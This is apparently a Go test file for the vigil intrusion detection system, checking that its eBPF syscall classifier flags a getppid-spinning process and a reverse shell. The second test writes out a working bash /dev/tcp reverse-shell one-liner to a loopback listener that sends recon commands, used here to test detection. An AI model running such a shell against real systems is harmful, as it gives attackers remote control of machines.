package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-ids/vigil/internal/testutil"
	"github.com/vigil-ids/vigil/internal/testutil/cvtest"
)

// TestUpClassifiesNonGrataProcess runs `vigil up` with the local agent
// counting system calls and a classify engine whose model the test
// trains (vigil train classifier) on recordings in which a known-bad tool
// makes almost nothing but getppid calls. A real process doing just that
// (an interpreter spinning on getppid) is started; the engine reports it
// as non-grata, naming its pid, within a bound.
func TestUpClassifiesNonGrataProcess(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("skipped: counting system calls with eBPF needs root (or CAP_BPF and CAP_PERFMON)")
	}
	var spin []string
	if py, err := exec.LookPath("python3"); err == nil {
		spin = []string{py, "-c", "import os\nwhile True: os.getppid()"}
	} else if pl, err := exec.LookPath("perl"); err == nil {
		spin = []string{pl, "-e", "getppid() while 1"}
	} else {
		t.Skip("skipped: neither python3 nor perl to spin on getppid")
	}
	dir := t.TempDir()
	recs := cvtest.WriteRecordings(t, filepath.Join(dir, "recordings"), 300, 5)
	model := filepath.Join(dir, "classifier.vgm")
	out, code := run(t, "", "train", "classifier", "--data", recs, "--model", model, "--kind", "logreg", "--seed", "2")
	if code != 0 || !strings.Contains(out, "wrote "+model) {
		t.Fatalf("vigil train classifier: exit %d\n%s", code, out)
	}
	if out, code := run(t, "", "check", model); code != 0 || !strings.Contains(out, "a process classifier (logreg) of 6 classes") {
		t.Fatalf("vigil check %s: exit %d\n%s", model, code, out)
	}
	cfg := filepath.Join(dir, "vigil.yaml")
	if err := os.WriteFile(cfg, fmt.Appendf(nil, `monitor: {name: local, layer: service}
sources:
  - name: observations
    subjects: ["vigil.obs.>"]
engines:
  - kind: classify
    name: classifier
    model: %q
    suppress: 1h
`, model), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, code := run(t, "", "check", cfg); code != 0 {
		t.Fatalf("vigil check %s: exit %d\n%s", cfg, code, out)
	}
	httpPort, busPort := testutil.FreePort(t), testutil.FreePort(t)
	base := fmt.Sprintf("http://127.0.0.1:%d", httpPort)
	start(t, "up", "--config", cfg, "--listen", fmt.Sprintf("127.0.0.1:%d", httpPort), "--bus-listen", fmt.Sprintf("127.0.0.1:%d", busPort),
		"--data", filepath.Join(dir, "data"), "--agent-host-id", "cv-host", "--agent-syscalls")
	waitHTTP(t, base+"/healthz", 20*time.Second)

	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	cmd := exec.CommandContext(ctx, spin[0], spin[1:]...)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cancel(); _ = cmd.Wait() }()
	started := time.Now()

	// Ten one-second vectors make the first sequence; the agent sends
	// each a second late at most.
	for _, r := range waitNonGrata(t, base, cmd.Process.Pid, 40*time.Second) {
		if r.Host != "cv-host" || r.Severity != "red" || r.State != "NonGrata" || r.Attrs["class"] != "nongrata:getppid" {
			t.Fatalf("report %+v", r)
		}
	}
	t.Logf("reported %.1f s after the process started", time.Since(started).Seconds())
	var all []struct {
		Model       string
		Explanation string
	}
	getJSON(t, base+"/api/reports?engine=classifier", &all)
	for _, r := range all {
		t.Logf("report: %s %s", r.Model, r.Explanation)
	}
}

// TestUpShippedClassifierReportsReverseShell runs `vigil up
// --agent-syscalls` with the built-in resource object, whose classify
// engine runs the model shipped in the binary, and starts a real reverse
// shell on this machine: bash -i over a TCP connection to a listener of
// the test's on loopback that sends it commands every second (as an
// attacker at the other end would). The engine reports that bash process
// as the known-bad tool "reverse-shell", naming its pid, within the
// classifier's reach: ten one-second vectors and three sequences in a row.
func TestUpShippedClassifierReportsReverseShell(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("skipped: counting system calls with eBPF needs root (or CAP_BPF and CAP_PERFMON)")
	}
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("skipped: no bash")
	}
	dir := t.TempDir()
	httpPort, busPort := testutil.FreePort(t), testutil.FreePort(t)
	base := fmt.Sprintf("http://127.0.0.1:%d", httpPort)
	start(t, "up", "--listen", fmt.Sprintf("127.0.0.1:%d", httpPort), "--bus-listen", fmt.Sprintf("127.0.0.1:%d", busPort),
		"--data", filepath.Join(dir, "data"), "--agent-host-id", "shell-host", "--agent-syscalls")
	waitHTTP(t, base+"/healthz", 20*time.Second)

	// The attacker's end: every second, a few commands.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		go func() { _, _ = io.Copy(io.Discard, c) }()
		tick := time.NewTicker(time.Second)
		defer tick.Stop()
		for {
			if _, err := io.WriteString(c, "id; uname -a; ls -la /etc | wc -l; cat /etc/hostname /proc/loadavg\n"); err != nil {
				return
			}
			select {
			case <-ctx.Done():
				return
			case <-tick.C:
			}
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	cmd := exec.CommandContext(ctx, bash, "-c", fmt.Sprintf("exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
	// Its home is the test's: an interactive bash reads no startup file
	// of the machine's user.
	cmd.Env = []string{"HOME=" + dir, "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "TERM=dumb"}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cancel(); _ = cmd.Wait() }()
	started := time.Now()

	for _, r := range waitNonGrata(t, base, cmd.Process.Pid, 45*time.Second) {
		if r.Host != "shell-host" || r.State != "NonGrata" || r.Attrs["class"] != "nongrata:reverse-shell" || r.Attrs["process"] != "bash" {
			t.Fatalf("report %+v: want the reverse-shell class about bash", r)
		}
	}
	t.Logf("reported %.1f s after the shell started", time.Since(started).Seconds())
}

// classifierReport is the part of a classify report the tests read.
type classifierReport struct {
	Model, Host, Severity, State string
	Attrs                        map[string]any
}

// waitNonGrata waits for a monitor's API at base to hold a non-grata
// report about pid and returns the non-grata reports about it.
func waitNonGrata(t *testing.T, base string, pid int, limit time.Duration) []classifierReport {
	t.Helper()
	var about []classifierReport
	testutil.WaitFor(t, limit, fmt.Sprintf("a non-grata report about pid %d", pid), func() bool {
		var reps []classifierReport
		getJSON(t, base+"/api/reports?model=classify:non-grata", &reps)
		about = about[:0]
		for _, r := range reps {
			if p, _ := r.Attrs["pid"].(float64); int(p) == pid {
				about = append(about, r)
			}
		}
		return len(about) > 0
	})
	return about
}
